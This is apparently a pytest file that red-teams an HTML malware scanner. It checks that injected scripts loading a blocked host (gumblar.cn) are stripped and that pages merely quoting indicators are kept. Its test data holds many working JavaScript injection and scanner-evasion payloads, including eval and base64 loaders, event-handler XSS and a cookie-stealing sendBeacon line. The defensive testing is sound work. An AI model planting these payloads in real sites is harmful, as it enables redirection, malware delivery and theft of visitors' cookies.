"""Red team of issue 17's mention rule: injectors dressed up as data, and data that stays data.

Since a script that only *names* a blocked host is kept (a ``mention``), an attacker
who compromised a site wants the scanner to read the injector as data. Each case
below loads, navigates to or runs a blocked origin in a browser, and each was kept
as a mention (or not seen at all) before the fix:

- a property set through a computed key decided at run time (``self[atob(..)] = u``,
  ``window[k] = u`` with ``k = 'location'``), ``Reflect.set``, ``Object.assign`` /
  jQuery's ``attr``/``prop``/``$(html, {src: u})`` copying ``{src: u}``, an attribute
  node (``createAttribute('src')``, ``attributes.src.value = u``), destructuring
  (``[location] = [u]``), ``with (location)``, ``l = location; l.replace(u)``;
- tagged templates (``fetch`http://host/c```: the call happens, with the strings);
- a regular expression after ``if (...)`` read as division, hiding the code after it
  in what the tokenizer took for a string;
- ``<base href>`` at a blocked origin with an inline script loading a relative URL;
- the payload in a data block, run by a tiny loader elsewhere on the page (``eval(p.text)``,
  a created script given its text, a re-typed block inserted again).

And the opposite: pages that quote IOCs and do ordinary things with them stay untouched.
"""

from __future__ import annotations

import base64

import pytest

from .test_htmlscan_mentions import html, strip

U = "var u='http://gumblar.cn/';"

INJECTORS = {
    "computed-key-atob": "<script>self[atob('bG9jYXRpb24=')]='http://gumblar.cn/'</script>",
    "computed-key-variable": "<script>var l='location';window[l]='http://gumblar.cn/'</script>",
    "computed-key-image": "<script>var k='src';var i=new Image;i[k]='http://gumblar.cn/c'</script>",
    "computed-key-concat": f"<script>{U}top[['loc','ation'].join('')]=u</script>",
    "object-assign": "<script>var o={src:'http://gumblar.cn/x.js'};"
    "var s=document.createElement('img');Object.assign(s,o)</script>",
    "object-assign-window": f"<script>{U}Object.assign(window,{{location:u}})</script>",
    "object-assign-location": f"<script>{U}Object.assign(location,{{href:u}})</script>",
    "reflect-set": "<script>Reflect.set(window,'location','http://gumblar.cn/')</script>",
    "reflect-set-src": "<script>var i=new Image;Reflect.set(i,'src','http://gumblar.cn/c')</script>",
    "create-attribute": "<script>var a=document.createAttribute('src');"
    "a.value='http://gumblar.cn/x.js';s.setAttributeNode(a)</script>",
    "attributes-value": "<script>document.images[0].attributes.src.value='http://gumblar.cn/c'</script>",
    "jquery-attr": "<script>jQuery('img').attr('src','http://gumblar.cn/c')</script>",
    "jquery-attr-object": "<script>jQuery('img').attr({src:'http://gumblar.cn/c'})</script>",
    "jquery-props": "<script>$('<img>',{src:'http://gumblar.cn/c'})</script>",
    "tagged-open": "<script>window.open`http://gumblar.cn/`</script>",
    "tagged-fetch": "<script>fetch`http://gumblar.cn/c`</script>",
    "regex-after-if": f"<script>{U}if(a)/'/.test(b);self['location']=u;//'</script>",
    "regex-after-while": f"<script>{U}while(a)/'/.test(b);self.location=u;//'</script>",
    "destructure-array": f"<script>{U}[location]=[u]</script>",
    "destructure-object": f"<script>{U}({{a:location}}={{a:u}})</script>",
    "destructure-shorthand": f"<script>{U}({{location}}={{location:u}})</script>",
    "with-href": f"<script>{U}with(location)href=u</script>",
    "with-assign": f"<script>{U}with(location)assign(u)</script>",
    "location-alias": f"<script>{U}var l=location;l.replace(u)</script>",
    "base-create-script": '<base href="http://gumblar.cn/"><script>var s=document.createElement'
    "('script');s.src='x.js';document.head.append(s)</script>",
    "base-import": "<base href=\"http://gumblar.cn/\"><script>import('./m.js')</script>",
    "base-module": "<base href=\"http://gumblar.cn/\"><script type=module>import './m.js'</script>",
    "data-eval": "<script type=\"text/plain\" id=p>location='http://gumblar.cn/'</script>"
    "<script>eval(p.text)</script>",
    "data-function": "<script type=\"text/plain\" id=p>location='http://gumblar.cn/'</script>"
    "<script>setTimeout(function(){new Function(document.getElementById('p').textContent)()})"
    "</script>",
    "data-script-text": "<script type=\"text/plain\" id=p>location='http://gumblar.cn/'</script>"
    "<script>var s=document.createElement('script');s.text=document.getElementById('p').text;"
    "document.body.append(s)</script>",
    "data-retype": "<script type=\"text/plain\" id=p>location='http://gumblar.cn/'</script>"
    "<script>var p=document.getElementById('p');p.type='text/javascript';"
    "document.body.append(p)</script>",
    "data-json-payload": '<script type="application/json" id=c>{"c": "location=\'http://gumblar.cn/\'"}'
    "</script><script>var c=JSON.parse(document.getElementById('c').textContent);"
    "window['ev'+'al'](c.c)</script>",
}


@pytest.mark.parametrize("fast_path", [True, False])
@pytest.mark.parametrize("name", sorted(INJECTORS))
def test_injectors_dressed_as_data_are_removed(name: str, fast_path: bool) -> None:
    body = html(INJECTORS[name])
    out, findings = strip(body, fast_path=fast_path)
    removed = [f for f in findings if f.removed]
    assert removed, findings
    assert all(f.reason != "mention" for f in removed)
    if not name.startswith("base-"):  # (the <base> itself is not an active element)
        assert b"gumblar" not in out


def test_a_data_block_run_by_a_loader_names_the_loader() -> None:
    body = html(INJECTORS["data-eval"])
    out, (f,) = strip(body)
    assert f.removed and f.reason == "inline-reference"
    assert f.evidence is not None and "eval" in f.evidence
    assert out.count(b"<script") == 1  # the loader stays: alone it runs nothing


GTM = (
    "<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),"
    "event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'"
    "?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;"
    "f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-X');</script>"
)
GA = (
    "<script>(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){"
    "(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),"
    "m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})"
    "(window,document,'script','https://www.google-analytics.com/analytics.js','ga');</script>"
)
KEPT = {
    "json-ld-and-gtm": '<script type="application/ld+json">{"articleBody": "gumblar.cn loads '
    '<script src=http://gumblar.cn/x.js>"}</script>' + GTM,
    "json-ld-and-ga": '<script type="application/ld+json">{"articleBody": "gumblar.cn"}</script>'
    + GA,
    "next-data-and-flight": '<script id="__NEXT_DATA__" type="application/json">'
    '{"props": {"x": "gumblar.cn"}}</script><script>(self.__next_f=self.__next_f||[]).push([0]);'
    'self.__next_f.push([1,"1:HL[\\"/_next/static/css/a.css\\",\\"style\\"]\\n"])</script>',
    "data-and-debounce": '<script type="application/json" id=d>{"iocs": ["gumblar.cn"]}</script>'
    "<script>var d=JSON.parse(document.getElementById('d').textContent);d.iocs.forEach(function(h)"
    "{var li=document.createElement('li');li.textContent=h;ul.appendChild(li)});var t;"
    "input.oninput=function(){clearTimeout(t);t=setTimeout(render,200)}</script>",
    "jquery-list": "<script>var iocs=['gumblar.cn','martuz.cn'];$(function(){$.each(iocs,"
    "function(i,h){$('<li>',{text:h,'class':'ioc'}).appendTo('#l')})})</script>",
    "counters": "<script>var iocs=['gumblar.cn','martuz.cn'];var seen={},n={};for(var i=0;"
    "i<iocs.length;i++){seen[iocs[i]]=true;n[iocs[i]]=(n[iocs[i]]||0)+1;rows[i]=iocs[i].split('.')}"
    "</script>",
    "assign-options": "<script>var cfg={blocked:['http://gumblar.cn/']};"
    "var opts=Object.assign({}, defaults, {theme:'dark'})</script>",
    "regex-after-if": "<script>var ioc='gumblar.cn';if(window.x)/re/.test(y);var z=1</script>",
    "division-after-call": "<script>var ioc='gumblar.cn';var r=f(a)/2/b;</script>",
    "destructure-read": "<script>let {location: l} = window; var ioc='gumblar.cn'</script>",
    "string-replace": "<script>var ioc='gumblar.cn'; s=t.replace(/a/g, 'b')</script>",
}


@pytest.mark.parametrize("fast_path", [True, False])
@pytest.mark.parametrize("name", sorted(KEPT))
def test_pages_quoting_iocs_stay_untouched(name: str, fast_path: bool) -> None:
    body = html(KEPT[name])
    out, findings = strip(body, fast_path=fast_path)
    assert out is body, findings
    assert findings and all(f.reason == "mention" and not f.removed for f in findings)


def test_a_blocked_base_alone_is_no_finding_for_scripts_that_load_nothing() -> None:
    body = html('<base href="http://gumblar.cn/"><script>var a = 1; el.textContent = a</script>')
    out, findings = strip(body)
    assert out is body and findings == []


HANDLERS = {
    "img-onerror": "<img src=x onerror=\"location='http://gumblar.cn/'\">",
    "body-onload": "<body onload=\"location='http://gumblar.cn/'\"><p>kept</p>",
    "div-onmouseover": "<div onmouseover=\"import('http://gumblar.cn/m.js')\">kept</div>",
    "svg-onload": "<svg onload=\"var s=document.createElement('script');"
    "s.src='//gumblar.cn/x.js';document.head.append(s)\"></svg>",
    "lt-in-earlier-value": '<img alt="a<b" src=x onerror="location=\'http://gumblar.cn/\'">',
    "no-space": '<img src="x"onerror="location=\'http://gumblar.cn/\'">',
    "slashes": "<img/src/onerror=location='http://gumblar.cn/'>",
    "upper-case": "<img src=x ONERROR=\"location='http://gumblar.cn/'\">",
    "entity-in-host": "<img src=x onerror=\"location='http://gumbl&#97;r.cn/'\">",
    "magecart": '<img src=x onerror="var c=document.cookie;'
    "navigator.sendBeacon('https://gumblar.cn/c',c)\">",
}


@pytest.mark.parametrize("fast_path", [True, False])
@pytest.mark.parametrize("name", sorted(HANDLERS))
def test_event_handlers_that_load_are_removed(name: str, fast_path: bool) -> None:
    body = html(HANDLERS[name])
    out, findings = strip(body, fast_path=fast_path)
    assert [f.removed for f in findings] == [True], findings
    assert findings[0].evidence is not None and findings[0].evidence.startswith("on")
    assert b"gumblar" not in out and b"gumbl&#97;r" not in out
    assert out.count(b"kept") == body.count(b"kept")  # only the start tag goes


def test_event_handlers_that_only_mention_are_kept() -> None:
    body = html(
        "<button onclick=\"alert('gumblar.cn is blocked')\">x</button>"
        '<a href="#" onclick="return false">gumblar.cn</a>'
    )
    out, findings = strip(body)
    assert out is body
    assert [(f.element, f.reason, f.removed) for f in findings] == [("button", "mention", False)]


@pytest.mark.parametrize(
    "url",
    [
        "http://3647724179/",  # 217.107.218.147 as one number
        "http://0xd96bda93/",
        "http://gumblar\u3002cn/",  # ideographic full stop
        "http://\uff47\uff55\uff4d\uff42\uff4c\uff41\uff52\uff0e\uff43\uff4e/",  # fullwidth
    ],
)
def test_hosts_a_browser_canonicalises_are_recognised(url: str) -> None:
    # Chromium's URL parser turns each into a blocked host; the scanner must too.
    body = html(f"<script>location.href = '{url}'</script>")
    out, findings = strip(body)
    assert [f.removed for f in findings] == [True], findings


def test_a_base64_data_block_run_by_a_loader_is_removed() -> None:
    # Gumblar-style: the payload names nothing readable; the loader decodes it.
    payload = base64.b64encode(b"document.write('<script src=//gumblar.cn/x.js></scr'+'ipt>')")
    block = f'<script type="text/plain" id="p">\n{payload.decode()}\n</script>'
    out, (f,) = strip(html(block + "<script>eval(atob(p.text))</script>"))
    assert f.removed and b"text/plain" not in out
    alone = html(block)  # no loader: reported, kept
    out, (g,) = strip(alone)
    assert out is alone and g.reason == "mention" and not g.removed


F = "var u='https://gumblar.cn/c';"
PASSED_ON = {
    "bind": F + "var b=navigator.sendBeacon.bind(navigator);b(u,document.cookie)",
    "call": F + "fetch.call(null,u)",
    "reflect-apply": F + "Reflect.apply(fetch,null,[u])",
    "alias": F + "var f=fetch;f(u)",
    "map": F + "[u].map(fetch)",
    "then": F + "Promise.resolve(u).then(fetch)",
    "constructor-alias": F + "var W=Worker;new W(u)",
    "parenthesised": F + "new (window.WebSocket)(u)",
    "reflect-construct": F + "Reflect.construct(WebSocket,[u])",
    "open-alias": F + "var x=new XMLHttpRequest;var o=x.open;o.call(x,'POST',u)",
    "set-attribute-alias": F + "var a=Element.prototype.setAttribute;a.call(img,'src',u)",
    "setter": F
    + "Object.getOwnPropertyDescriptor(HTMLImageElement.prototype,'src').set.call(img,u)",
    # A timer handed on runs a string whose sink no shape shows.
    "timer-alias": F + "var t=setTimeout;t(\"self['loc'+'ation']=u\")",
    "timer-call": F + "setTimeout.call(window,\"self['loc'+'ation']=u\")",
    "timer-reflect": F + "Reflect.apply(setTimeout,window,[\"self['loc'+'ation']=u\"])",
}


@pytest.mark.parametrize("name", sorted(PASSED_ON))
def test_load_functions_passed_on_are_loads(name: str) -> None:
    body = html(f"<script>{PASSED_ON[name]}</script>")
    out, findings = strip(body)
    assert [f.removed for f in findings] == [True], findings


@pytest.mark.parametrize(
    "script",
    [
        "if(window.fetch){go()};if(!navigator.sendBeacon)x();var h=typeof WebSocket;"
        "navigator.sendBeacon&&navigator.sendBeacon('/log',d)",
        "if(dialog.open)close();var isOpen=dialog.open&&1;menu.open=true",
        "var supports={fetch:!!window.fetch,ws:'WebSocket' in window}",
    ],
)
def test_feature_detection_is_no_load(script: str) -> None:
    body = html(f"<script>var ioc='gumblar.cn';{script}</script>")
    out, (f,) = strip(body)
    assert out is body and f.reason == "mention"


def test_a_handler_inside_a_kept_scripts_text_is_the_scripts_business() -> None:
    # An XSS cheat sheet's payload list: data, kept whole (no piece cut out of it).
    body = html(
        "<script>var payloads = ['<img src=x onerror=\"Reflect.set(window, \\'location\\', "
        "\\'//gumblar.cn/\\')\">'];"
        "list.textContent = payloads.join('\\n');</script>"
    )
    out, findings = strip(body)
    assert out is body
    assert [(f.element, f.reason) for f in findings] == [("script", "mention")]


def test_a_loader_padded_past_the_analysis_bound_still_counts() -> None:
    padding = "var a" + "=b+c;" * 60000  # 300 KB: not tokenized
    block = "<script type=\"text/plain\" id=p>location='http://gumblar.cn/'</script>"
    out, (f,) = strip(html(block + f"<script>{padding} eval(p.text)</script>"))
    assert f.removed and f.evidence is not None and "eval" in f.evidence


def test_a_handler_in_a_srcdoc_document_removes_the_frame() -> None:
    body = html(
        "<iframe srcdoc=\"<img src=x onerror=&quot;top.location='http://gumblar.cn/'&quot;>\">"
    )
    out, (f,) = strip(body)
    assert f.element == "iframe" and f.removed and b"gumblar" not in out


def test_a_timer_given_a_variable_the_script_assigned_is_a_loader() -> None:
    block = "<script type=\"text/plain\" id=p>location='http://gumblar.cn/'</script>"
    out, (f,) = strip(html(block + "<script>var c = p.text; setTimeout(c, 1)</script>"))
    assert f.removed and b"gumblar" not in out
